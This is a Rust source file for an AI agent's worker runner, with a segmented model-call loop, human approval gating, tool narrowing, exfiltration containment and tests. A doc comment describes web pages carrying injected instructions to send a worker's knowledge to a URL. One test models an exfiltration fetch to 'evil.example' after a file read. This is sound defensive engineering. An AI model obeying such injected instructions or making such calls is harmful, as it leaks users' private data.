//! A worker's run: the queue job that drives it one step at a time, the state
//! that rests in D1 between steps, and the segment loop (at most
//! [`TURNS_PER_SEGMENT`] model calls) that is generic over the model and the
//! tools, so it runs natively in tests.

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use super::containment::Containment;
use super::tool_sets::{SetStatus, SetStatusArguments, StatusKind};
use super::worker::TURNS_PER_SEGMENT;
use super::worker::{after_segment, on_plain_answer, AfterSegment, PlainAnswer, WorkerEvent, WorkerState};
use crate::agents::rules::Permitted;
use crate::approvals::rules::Verdict;
use crate::files::arguments::{AttachmentRead, AttachmentRecall, SendFile};
use crate::llm::tool::Tool;
use crate::llm::ChatModel;
use crate::llm::{ChatMessage, ChatRequest, LlmError, Role, ToolCall, ToolSpec, Usage};
use crate::prompt;
use crate::sandbox::arguments::RunCode;
use crate::tasks::arguments::TaskUpdate;
use crate::web_tools::arguments::{Browse, HttpFetch, WebSearch};
use crate::workspace::arguments::{FileEdit, FileList, FileRead, FileWrite};

/// The queue message that runs one step of a worker.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct WorkerJob {
    /// The worker's id (stable per conversation, turn and call).
    pub id: String,
    pub conversation_key: String,
    /// Unique per step; a step the run already finished is not run again.
    pub step: String,
    pub input: WorkerInput,
    /// Whose message started the worker: its spend counts against their budget.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub person: Option<crate::budget::rules::Person>,
}

/// What a step brings to the worker.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum WorkerInput {
    Start {
        task: String,
        interactive: bool,
    },
    /// The next segment of a run that used up the last one.
    Continue,
    /// A follow-up routed from the channel to a waiting interactive worker.
    FollowUp {
        message: String,
    },
    /// A person decided on the call that waits for approval (or the wait timed out).
    Decision {
        call_id: String,
        verdict: Verdict,
        /// Who decided, as the worker is told.
        by: String,
    },
}

/// The decision on the call a run waits for.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CallDecision {
    pub call_id: String,
    pub verdict: Verdict,
    pub by: String,
}

/// Everything a worker is between its steps.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct WorkerRun {
    pub task: String,
    pub interactive: bool,
    pub state: WorkerState,
    /// Segments run so far.
    pub segments: u32,
    pub nudges: u32,
    pub messages: Vec<ChatMessage>,
    pub status: Option<String>,
    pub outcome: Option<String>,
    pub usage: Usage,
    /// Steps already finished, so a redelivered job is recognised.
    pub steps: Vec<String>,
    /// Calls the model asked for that have no result yet: they wait behind
    /// one that needs approval, and run, in order, once it is decided.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub queued: Vec<ToolCall>,
    /// The decision on the first queued call, until it is carried out.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub decision: Option<CallDecision>,
    /// What it has read and where it has sent ([`Containment`]).
    #[serde(default)]
    pub containment: Containment,
}

/// How a segment ended.
#[derive(Debug, Clone, PartialEq)]
pub enum SegmentEnd {
    /// `set_status(kind: "outcome")`: the result.
    Outcome(String),
    /// An interactive worker asks for input (its question).
    Waiting(String),
    /// This call needs a person's approval; the run rests until it is decided.
    Approval(ToolCall),
    /// Out of segments or nudges: what it had.
    Failed(String),
    /// The channel cancelled it: nothing to report.
    Cancelled,
    /// The segment's calls are spent; another segment follows.
    Continue,
}

/// What the worker's tools do in the world; the runner handles `set_status`.
#[allow(async_fn_in_trait)] // Workers are single-threaded; futures need not be Send.
pub trait WorkerTools {
    /// Whether `web_search` is offered (a search provider is configured).
    fn has_search(&self) -> bool;
    /// Tools from outside (MCP servers) offered beside the worker's own.
    fn extra_tools(&self) -> Vec<ToolSpec> {
        Vec::new()
    }
    /// Whether a call of `name` waits for a person's approval first.
    fn needs_approval(&self, _name: &str) -> bool {
        false
    }
    /// Whether the worker's own tool `name` may be offered and run (an
    /// agent's settings narrow it: [`Permitted`]); yes by default.
    fn allows(&self, _name: &str) -> bool {
        true
    }
    /// What the worker has read and may send, before each call runs (code it
    /// runs gets the network only while [`Containment::network_allowed`]).
    fn contain(&self, _containment: &Containment) {}
    /// Runs a tool; errors are text the model reads.
    async fn call(&self, name: &str, arguments: &Value) -> String;
    /// Passes a progress line to the channel's status block.
    async fn report_progress(&self, text: &str);
    /// Whether the channel cancelled this worker.
    async fn is_cancelled(&self) -> bool;
    /// Tells the channel the worker is alive (it gives up on silent workers);
    /// called before every model call, so it should send only now and then.
    async fn heartbeat(&self);
}

impl WorkerRun {
    /// A fresh run: the worker sees only its task.
    ///
    /// No identity documents (SOUL, IDENTITY, USER, the conversation's
    /// override: `crate::identity::rules`), deliberately. A worker is a task process,
    /// not a voice: the channel speaks its outcome in the conversation's
    /// character, so personality would only spend tokens on every one of its
    /// many calls. And a worker reads pages from the open web (`http_fetch`,
    /// `web_search`) that may carry instructions to repeat what it knows to
    /// some URL: keeping USER (personal details of the principal user) out of
    /// that context means a hijacked worker has none to give away.
    /// A run of `task`; `conversation_hosts` are the hosts its conversation
    /// has used ([`Containment::starting`]).
    pub fn start(
        task: &str,
        interactive: bool,
        bot_name: &str,
        conversation_hosts: &[String],
    ) -> Result<Self, prompt::Error> {
        let system = prompt::render("worker_system", json!({ "bot_name": bot_name, "interactive": interactive }))?;
        let task_message = prompt::render("worker_task", json!({ "task": task }))?;
        Ok(WorkerRun {
            task: task.to_string(),
            interactive,
            state: WorkerState::Running,
            segments: 0,
            nudges: 0,
            messages: vec![ChatMessage::new(Role::System, system), ChatMessage::new(Role::User, task_message)],
            status: None,
            outcome: None,
            usage: Usage::default(),
            steps: Vec::new(),
            queued: Vec::new(),
            decision: None,
            containment: Containment::starting(task, conversation_hosts),
        })
    }

    /// Why `call` waits for a person's yes under containment, if it does.
    pub fn needs_yes(&self, call: &ToolCall) -> Option<String> {
        self.containment.needs_yes(call, is_outside(&call.name))
    }

    /// Takes a step's input; false when the run cannot take it now.
    pub fn accept(&mut self, input: &WorkerInput) -> bool {
        match input {
            WorkerInput::Start { .. } | WorkerInput::Continue => self.state == WorkerState::Running,
            WorkerInput::FollowUp { message } => match self.state.apply(WorkerEvent::FollowUp) {
                Ok(next) => {
                    self.state = next;
                    self.messages.push(ChatMessage::new(Role::User, message.clone()));
                    true
                }
                Err(_) => false,
            },
            WorkerInput::Decision { call_id, verdict, by } => {
                let awaited = self.queued.first().is_some_and(|call| &call.id == call_id);
                match (awaited, self.state.apply(WorkerEvent::Decided)) {
                    (true, Ok(next)) => {
                        self.state = next;
                        self.decision =
                            Some(CallDecision { call_id: call_id.clone(), verdict: *verdict, by: by.clone() });
                        true
                    }
                    _ => false,
                }
            }
        }
    }

    /// Ends the run as failed (out of retries, or a model that refuses it).
    pub fn give_up(&mut self) {
        self.transition(WorkerEvent::GiveUp);
    }

    fn transition(&mut self, event: WorkerEvent) {
        // The runner only asks for transitions its own state allows; a refused
        // one leaves the state as it is rather than corrupting it.
        if let Ok(next) = self.state.apply(event) {
            self.state = next;
        }
    }
}

crate::tool_set! {
    /// The tools a worker's world answers (besides MCP tools); `web_search`
    /// only where a search provider is configured.
    pub WorkerToolSet = [
        HttpFetch, Browse, TaskUpdate, AttachmentRead, AttachmentRecall, SendFile, RunCode, WebSearch, FileList,
        FileRead, FileWrite, FileEdit
    ]
}

/// The tools a worker is offered: its runner's `set_status`, then its world's.
pub fn worker_tools(has_search: bool) -> Vec<ToolSpec> {
    let mut tools = vec![SetStatus::spec()];
    tools.extend(WorkerToolSet::specs().into_iter().filter(|tool| has_search || tool.name != WebSearch::NAME));
    tools
}

/// A worker's world narrowed to an agent's tools (`tools` in its settings):
/// the worker's own tools it does not name are neither offered nor run.
/// `set_status` is the runner's and always there; MCP servers' tools are
/// narrowed by `mcp_servers` when the toolbox opens, so they pass here.
impl<H: WorkerTools, P: Fn(&str) -> bool> WorkerTools for Permitted<H, P> {
    fn has_search(&self) -> bool {
        self.host.has_search()
    }
    fn extra_tools(&self) -> Vec<ToolSpec> {
        self.host.extra_tools()
    }
    fn needs_approval(&self, name: &str) -> bool {
        self.host.needs_approval(name)
    }
    fn allows(&self, name: &str) -> bool {
        (!is_own(name) || (self.permits)(name)) && self.host.allows(name)
    }
    fn contain(&self, containment: &Containment) {
        self.host.contain(containment)
    }
    async fn call(&self, name: &str, arguments: &Value) -> String {
        match self.allows(name) {
            true => self.host.call(name, arguments).await,
            false => format!("error: `{name}` is not among this agent's tools"),
        }
    }
    async fn report_progress(&self, text: &str) {
        self.host.report_progress(text).await
    }
    async fn is_cancelled(&self) -> bool {
        self.host.is_cancelled().await
    }
    async fn heartbeat(&self) {
        self.host.heartbeat().await
    }
}

/// Runs one segment of model calls. The run is changed in place; on an error
/// the caller drops it and the step runs again from the stored run.
pub async fn run_segment(
    model: &impl ChatModel,
    model_name: &str,
    tools: &impl WorkerTools,
    run: &mut WorkerRun,
) -> Result<SegmentEnd, LlmError> {
    let mut specs = worker_tools(tools.has_search());
    specs.retain(|spec| spec.name == SetStatus::NAME || tools.allows(&spec.name));
    specs.extend(tools.extra_tools());
    if run.decision.is_some() {
        // Resuming after a decision: the decided call and the calls behind it
        // run, and the run is saved (a step of its own) before the model is
        // asked again, so a retried step never runs an approved call twice.
        return Ok(run_queued(tools, &specs, run).await.unwrap_or(SegmentEnd::Continue));
    }
    run.segments += 1;
    for _ in 0..TURNS_PER_SEGMENT {
        if tools.is_cancelled().await {
            run.transition(WorkerEvent::Cancel);
            return Ok(SegmentEnd::Cancelled);
        }
        tools.heartbeat().await;
        let request =
            ChatRequest { model: model_name.to_string(), messages: run.messages.clone(), tools: specs.clone() };
        let completion = model.complete(&request).await?;
        run.usage.input_tokens += completion.usage.input_tokens;
        run.usage.output_tokens += completion.usage.output_tokens;
        let text = completion.content.clone().unwrap_or_default();

        if completion.tool_calls.is_empty() {
            run.messages.push(ChatMessage::new(Role::Assistant, text.clone()));
            if run.interactive {
                run.transition(WorkerEvent::AwaitInput);
                return Ok(SegmentEnd::Waiting(text));
            }
            match on_plain_answer(run.nudges) {
                PlainAnswer::Nudge => {
                    run.nudges += 1;
                    run.messages.push(ChatMessage::new(Role::User, prompt::text("worker_nudge")));
                    continue;
                }
                PlainAnswer::Fail => {
                    run.transition(WorkerEvent::GiveUp);
                    return Ok(SegmentEnd::Failed(fallback_words(run, &text)));
                }
            }
        }

        let mut assistant = ChatMessage::new(Role::Assistant, text);
        assistant.tool_calls = completion.tool_calls.clone();
        run.messages.push(assistant);
        run.queued = completion.tool_calls;
        if let Some(end) = run_queued(tools, &specs, run).await {
            return Ok(end);
        }
    }
    match after_segment(run.segments) {
        AfterSegment::NextSegment => Ok(SegmentEnd::Continue),
        AfterSegment::Fail => {
            run.transition(WorkerEvent::GiveUp);
            Ok(SegmentEnd::Failed(fallback_words(run, "")))
        }
    }
}

/// Answers the queued calls in order. A call that needs approval and has no
/// decision yet stops there (the rest wait behind it); once every call is
/// answered, an outcome one of them reported ends the run.
async fn run_queued(tools: &impl WorkerTools, specs: &[ToolSpec], run: &mut WorkerRun) -> Option<SegmentEnd> {
    while let Some(call) = run.queued.first().cloned() {
        let result = if call.name == SetStatus::NAME {
            match SetStatus::parse(&call.arguments) {
                Ok(arguments) => set_status(tools, run, arguments).await,
                Err(error) => format!("error: {error}"),
            }
        } else if !specs.iter().any(|spec| spec.name == call.name) {
            format!("error: there is no tool named `{}`", call.name)
        } else if tools.needs_approval(&call.name) || run.needs_yes(&call).is_some() {
            match run.decision.take().filter(|decision| decision.call_id == call.id) {
                None => {
                    run.transition(WorkerEvent::AwaitApproval);
                    return Some(SegmentEnd::Approval(call));
                }
                Some(decision) => match decision.verdict.refusal(&decision.by) {
                    Some(refusal) => refusal,
                    None => contained_call(tools, run, &call).await,
                },
            }
        } else {
            contained_call(tools, run, &call).await
        };
        run.queued.remove(0);
        run.messages.push(ChatMessage::tool_result(&call.id, result));
    }
    let outcome = run.outcome.clone().filter(|_| run.state == WorkerState::Running)?;
    run.transition(WorkerEvent::Outcome);
    Some(SegmentEnd::Outcome(outcome))
}

/// Runs a call the worker may make, after telling containment of it.
async fn contained_call(tools: &impl WorkerTools, run: &mut WorkerRun, call: &ToolCall) -> String {
    // The call is judged by what was read before it (code that reads the
    // workspace may have the network only if nothing private was read yet).
    tools.contain(&run.containment);
    run.containment.record(call, is_outside(&call.name));
    tools.call(&call.name, &call.arguments).await
}

/// Whether `name` is a tool of an MCP server (not one of the worker's own).
fn is_outside(name: &str) -> bool {
    name != SetStatus::NAME && !WorkerToolSet::NAMES.contains(&name)
}

/// Whether `name` is one of the worker's own tools an agent's `tools` may narrow.
fn is_own(name: &str) -> bool {
    WorkerToolSet::NAMES.contains(&name)
}

/// `set_status`: a progress line goes to the channel; an outcome is kept
/// until the calls beside it are answered.
async fn set_status(tools: &impl WorkerTools, run: &mut WorkerRun, arguments: SetStatusArguments) -> String {
    let status = arguments.text.trim().to_string();
    match (arguments.kind, status.is_empty()) {
        (_, true) => "error: `text` must be a non-empty string".to_string(),
        (StatusKind::Outcome, false) => {
            run.outcome = Some(status);
            "outcome recorded".to_string()
        }
        (_, false) => {
            tools.report_progress(&status).await;
            run.status = Some(status);
            "status updated".to_string()
        }
    }
}

/// What a worker that gave up had: its last words, else its last status.
fn fallback_words(run: &WorkerRun, last_words: &str) -> String {
    let had =
        if last_words.trim().is_empty() { run.status.clone().unwrap_or_default() } else { last_words.to_string() };
    if had.is_empty() {
        format!("the worker on \"{}\" gave up without a result", run.task)
    } else {
        format!("the worker on \"{}\" gave up; what it had: {had}", run.task)
    }
}

#[cfg(test)]
mod tests {
    use std::cell::RefCell;
    use std::collections::VecDeque;

    use super::*;
    use crate::llm::tool::{parameters, NoArguments};
    use crate::llm::{Completion, ToolCall};

    struct Script(RefCell<VecDeque<Completion>>);

    impl ChatModel for Script {
        async fn complete(&self, _request: &ChatRequest) -> Result<Completion, LlmError> {
            self.0.borrow_mut().pop_front().ok_or(LlmError::Status(500))
        }
    }

    #[derive(Default)]
    struct Tools {
        progress: RefCell<Vec<String>>,
        calls: RefCell<Vec<String>>,
        cancelled: bool,
        heartbeats: RefCell<u32>,
        /// An outside tool, offered; calls of it need approval.
        guarded: Option<&'static str>,
    }

    impl WorkerTools for Tools {
        fn has_search(&self) -> bool {
            false
        }
        fn extra_tools(&self) -> Vec<ToolSpec> {
            self.guarded.map(|name| ToolSpec::new(name, parameters::<NoArguments>())).into_iter().collect()
        }
        fn needs_approval(&self, name: &str) -> bool {
            self.guarded == Some(name)
        }
        async fn call(&self, name: &str, _arguments: &Value) -> String {
            self.calls.borrow_mut().push(name.to_string());
            "<html>ok</html>".into()
        }
        async fn report_progress(&self, text: &str) {
            self.progress.borrow_mut().push(text.to_string());
        }
        async fn is_cancelled(&self) -> bool {
            self.cancelled
        }
        async fn heartbeat(&self) {
            *self.heartbeats.borrow_mut() += 1;
        }
    }

    fn tool(name: &str, arguments: Value) -> Completion {
        Completion {
            tool_calls: vec![ToolCall { id: "c".into(), name: name.into(), arguments }],
            ..Completion::default()
        }
    }

    fn calls(list: &[(&str, &str, Value)]) -> Completion {
        let tool_calls = list
            .iter()
            .map(|(id, name, arguments)| ToolCall {
                id: id.to_string(),
                name: name.to_string(),
                arguments: arguments.clone(),
            })
            .collect();
        Completion { tool_calls, ..Completion::default() }
    }

    fn decision(call_id: &str, verdict: Verdict) -> WorkerInput {
        WorkerInput::Decision { call_id: call_id.into(), verdict, by: "Ada (telegram:1)".into() }
    }

    #[test]
    fn a_call_that_needs_approval_waits_with_the_calls_behind_it_and_runs_once_approved() {
        let tools = Tools { guarded: Some("mcp_t_create"), ..Tools::default() };
        let mut run = fresh(false);
        let batch = calls(&[
            ("a", "http_fetch", json!({"url": "https://example.com"})),
            ("b", "mcp_t_create", json!({"title": "x"})),
            // A host fetched before: the MCP tool's result does not hold it back.
            ("c", "http_fetch", json!({"url": "https://example.com/more"})),
        ]);
        let ends = drive(vec![batch], &mut run, &tools);
        assert!(matches!(&ends[..], [SegmentEnd::Approval(call)] if call.id == "b"), "{ends:?}");
        assert_eq!(run.state, WorkerState::WaitingForApproval);
        assert_eq!(*tools.calls.borrow(), vec!["http_fetch".to_string()], "the call before it ran; the rest wait");
        assert_eq!(run.queued.len(), 2);
        // Anything but the decision on that very call is refused.
        assert!(!run.accept(&WorkerInput::Continue));
        assert!(!run.accept(&decision("c", Verdict::Approved)));
        assert!(!run.accept(&WorkerInput::FollowUp { message: "go".into() }));
        assert!(run.accept(&decision("b", Verdict::Approved)));
        let segments = run.segments;
        let ends = drive(vec![tool("set_status", json!({"kind": "outcome", "text": "filed"}))], &mut run, &tools);
        // The approved calls run in a step of their own; the model is asked in the next.
        assert_eq!(ends, vec![SegmentEnd::Continue, SegmentEnd::Outcome("filed".into())]);
        assert_eq!(run.segments, segments + 1, "the resumption is not a segment of model calls");
        assert_eq!(tools.calls.borrow().len(), 3, "approved, then the call behind it");
        assert!(run.queued.is_empty() && run.decision.is_none());
        assert!(!run.accept(&decision("b", Verdict::Approved)), "a second click changes nothing");
    }

    #[test]
    fn a_denied_or_timed_out_call_does_not_run_and_the_worker_is_told_why() {
        for (verdict, words) in [(Verdict::Denied, "Ada (telegram:1) denied"), (Verdict::TimedOut, "time allowed")] {
            let tools = Tools { guarded: Some("mcp_t_drop"), ..Tools::default() };
            let mut run = fresh(false);
            // The outcome comes in the same batch, before the guarded call: it waits too.
            let batch = calls(&[
                ("o", "set_status", json!({"kind": "outcome", "text": "dropped it"})),
                ("d", "mcp_t_drop", json!({})),
            ]);
            let ends = drive(vec![batch], &mut run, &tools);
            assert!(matches!(&ends[..], [SegmentEnd::Approval(call)] if call.id == "d"), "{ends:?}");
            assert!(run.accept(&decision("d", verdict)));
            let ends = drive(vec![], &mut run, &tools);
            assert_eq!(ends, vec![SegmentEnd::Outcome("dropped it".into())]);
            assert!(tools.calls.borrow().is_empty(), "{verdict:?}: nothing ran");
            let told = run.messages.last().map(|message| message.content.clone()).unwrap_or_default();
            assert!(told.starts_with("not run:") && told.contains(words), "{told}");
        }
    }

    fn text(words: &str) -> Completion {
        Completion { content: Some(words.into()), ..Completion::default() }
    }

    fn drive(answers: Vec<Completion>, run: &mut WorkerRun, tools: &Tools) -> Vec<SegmentEnd> {
        let model = Script(RefCell::new(answers.into()));
        let mut ends = Vec::new();
        loop {
            let end = block_on(run_segment(&model, "m", tools, run)).expect("scripted");
            ends.push(end.clone());
            if end != SegmentEnd::Continue {
                return ends;
            }
        }
    }

    fn block_on<F: std::future::Future>(future: F) -> F::Output {
        use std::task::{Context, Poll, Waker};
        let mut future = std::pin::pin!(future);
        let mut context = Context::from_waker(Waker::noop());
        loop {
            if let Poll::Ready(output) = future.as_mut().poll(&mut context) {
                return output;
            }
        }
    }

    fn fresh(interactive: bool) -> WorkerRun {
        WorkerRun::start("count the stars", interactive, "edgebot", &[]).unwrap()
    }

    #[test]
    fn a_long_task_runs_in_segments_and_ends_with_its_outcome() {
        let mut answers: Vec<Completion> =
            (0..TURNS_PER_SEGMENT + 2).map(|_| tool("http_fetch", json!({"url": "https://example.com"}))).collect();
        answers.push(tool("set_status", json!({"kind": "progress", "text": "page 17"})));
        answers.push(tool("set_status", json!({"kind": "outcome", "text": "42 stars"})));
        let tools = Tools::default();
        let mut run = fresh(false);
        let ends = drive(answers, &mut run, &tools);
        assert_eq!(ends, vec![SegmentEnd::Continue, SegmentEnd::Outcome("42 stars".into())]);
        assert_eq!((run.state, run.segments), (WorkerState::Done, 2));
        assert_eq!(tools.calls.borrow().len() as u32, TURNS_PER_SEGMENT + 2);
        assert_eq!(*tools.heartbeats.borrow(), TURNS_PER_SEGMENT + 4, "one chance to report life per model call");
        assert_eq!(*tools.progress.borrow(), vec!["page 17".to_string()]);
        assert_eq!(run.messages[0].role, Role::System);
        assert!(run.messages[1].content.contains("count the stars"), "a fresh prompt with only the task");
    }

    #[test]
    fn plain_text_is_nudged_twice_then_fails_with_what_it_said() {
        let tools = Tools::default();
        let mut run = fresh(false);
        let ends = drive(vec![text("done?"), text("really done"), text("I counted 41")], &mut run, &tools);
        assert_eq!(ends.len(), 1);
        assert!(matches!(&ends[0], SegmentEnd::Failed(words) if words.contains("I counted 41")), "{ends:?}");
        assert_eq!((run.state, run.nudges), (WorkerState::Failed, 2));
        let nudges = run.messages.iter().filter(|message| message.content == prompt::text("worker_nudge")).count();
        assert_eq!(nudges, 2);
    }

    #[test]
    fn a_worker_that_never_finishes_fails_after_the_last_segment() {
        let answers = (0..TURNS_PER_SEGMENT * 10 + 5)
            .map(|index| tool("set_status", json!({"kind": "progress", "text": format!("step {index}")})))
            .collect();
        let tools = Tools::default();
        let mut run = fresh(false);
        let ends = drive(answers, &mut run, &tools);
        assert_eq!(ends.len(), 10);
        assert!(matches!(ends.last(), Some(SegmentEnd::Failed(words)) if words.contains("step 149")), "{ends:?}");
        assert_eq!(run.state, WorkerState::Failed);
    }

    #[test]
    fn an_interactive_worker_waits_for_a_follow_up_and_goes_on() {
        let tools = Tools::default();
        let mut run = fresh(true);
        let ends = drive(vec![text("Which city?")], &mut run, &tools);
        assert_eq!(ends, vec![SegmentEnd::Waiting("Which city?".into())]);
        assert_eq!(run.state, WorkerState::WaitingForInput);
        assert!(!run.accept(&WorkerInput::Continue), "a waiting worker needs a follow-up");
        assert!(run.accept(&WorkerInput::FollowUp { message: "Oslo".into() }));
        assert_eq!(run.messages.last().map(|message| message.content.as_str()), Some("Oslo"));
        let ends =
            drive(vec![tool("set_status", json!({"kind": "outcome", "text": "Oslo: 3 stars"}))], &mut run, &tools);
        assert_eq!(ends, vec![SegmentEnd::Outcome("Oslo: 3 stars".into())]);
        assert!(!run.accept(&WorkerInput::FollowUp { message: "more".into() }), "a finished worker takes nothing");
    }

    #[test]
    fn a_cancelled_worker_stops_before_its_next_call() {
        let tools = Tools { cancelled: true, ..Tools::default() };
        let mut run = fresh(false);
        let ends = drive(vec![tool("http_fetch", json!({"url": "https://example.com"}))], &mut run, &tools);
        assert_eq!(ends, vec![SegmentEnd::Cancelled]);
        assert_eq!(run.state, WorkerState::Failed);
        assert!(tools.calls.borrow().is_empty());
    }

    #[test]
    fn after_reading_a_file_a_new_host_waits_for_a_yes_and_the_reason_is_said() {
        let tools = Tools::default();
        let mut run = WorkerRun::start("sum up https://docs.example/a", false, "edgebot", &[]).unwrap();
        let batch = calls(&[
            ("a", "http_fetch", json!({"url": "https://elsewhere.example/before"})),
            ("b", "attachment_read", json!({"id": "f1"})),
            ("c", "http_fetch", json!({"url": "https://docs.example/b"})),
            ("d", "http_fetch", json!({"url": "https://evil.example/?d=report"})),
        ]);
        let ends = drive(vec![batch], &mut run, &tools);
        assert!(matches!(&ends[..], [SegmentEnd::Approval(call)] if call.id == "d"), "{ends:?}");
        assert_eq!(tools.calls.borrow().len(), 3, "fetches before the read and to known hosts went");
        let why = run.needs_yes(&run.queued[0]).expect("a reason");
        assert!(why.contains("evil.example"), "{why}");
        // Denied: the call never runs, and the host stays unknown.
        assert!(run.accept(&decision("d", Verdict::Denied)));
        let ends = drive(vec![tool("set_status", json!({"kind": "outcome", "text": "done"}))], &mut run, &tools);
        assert_eq!(ends, vec![SegmentEnd::Continue, SegmentEnd::Outcome("done".into())]);
        assert_eq!(tools.calls.borrow().len(), 3);
        assert!(!run.containment.known_hosts.contains(&"evil.example".to_string()));
        assert_eq!(run.containment.known_hosts, ["docs.example", "elsewhere.example"]);
    }

    #[test]
    fn an_agents_tools_narrow_what_a_worker_is_offered_and_what_runs() {
        struct Seen(RefCell<VecDeque<Completion>>, RefCell<Vec<Vec<String>>>);
        impl ChatModel for Seen {
            async fn complete(&self, request: &ChatRequest) -> Result<Completion, LlmError> {
                self.1.borrow_mut().push(request.tools.iter().map(|spec| spec.name.clone()).collect());
                self.0.borrow_mut().pop_front().ok_or(LlmError::Status(500))
            }
        }
        let answers = vec![
            tool("run_code", json!({"code": "print(1)"})),
            tool("file_read", json!({"path": "a.txt"})),
            tool("set_status", json!({"kind": "outcome", "text": "done"})),
        ];
        let model = Seen(RefCell::new(answers.into()), RefCell::new(Vec::new()));
        let tools = Tools { guarded: Some("mcp_t_x"), ..Tools::default() };
        let narrowed = Permitted { host: tools, permits: |name: &str| name == "file_read" };
        let mut run = fresh(false);
        let end = block_on(run_segment(&model, "m", &narrowed, &mut run)).expect("scripted");
        assert_eq!(end, SegmentEnd::Outcome("done".into()));
        let offered = model.1.borrow()[0].clone();
        for name in ["set_status", "file_read", "mcp_t_x"] {
            assert!(offered.contains(&name.to_string()), "{name} offered: {offered:?}");
        }
        for name in ["run_code", "http_fetch", "send_file"] {
            assert!(!offered.contains(&name.to_string()), "{name} not offered: {offered:?}");
        }
        assert_eq!(*narrowed.host.calls.borrow(), ["file_read"], "run_code never ran");
        let refused = run.messages.iter().any(|message| message.content.contains("no tool named `run_code`"));
        assert!(refused, "the worker is told");
        let called = block_on(narrowed.call("run_code", &json!({})));
        assert_eq!(called, "error: `run_code` is not among this agent's tools");
        let open = Permitted { host: Tools::default(), permits: |_: &str| true };
        assert!(open.allows("run_code") && open.allows("mcp_t_x"));
    }

    #[test]
    fn web_search_is_offered_only_with_a_provider() {
        let names = |search| worker_tools(search).into_iter().map(|spec| spec.name).collect::<Vec<_>>();
        assert!(!names(false).contains(&"web_search".to_string()));
        assert!(names(true).contains(&"web_search".to_string()));
        assert!(names(false).contains(&"http_fetch".to_string()));
    }
}
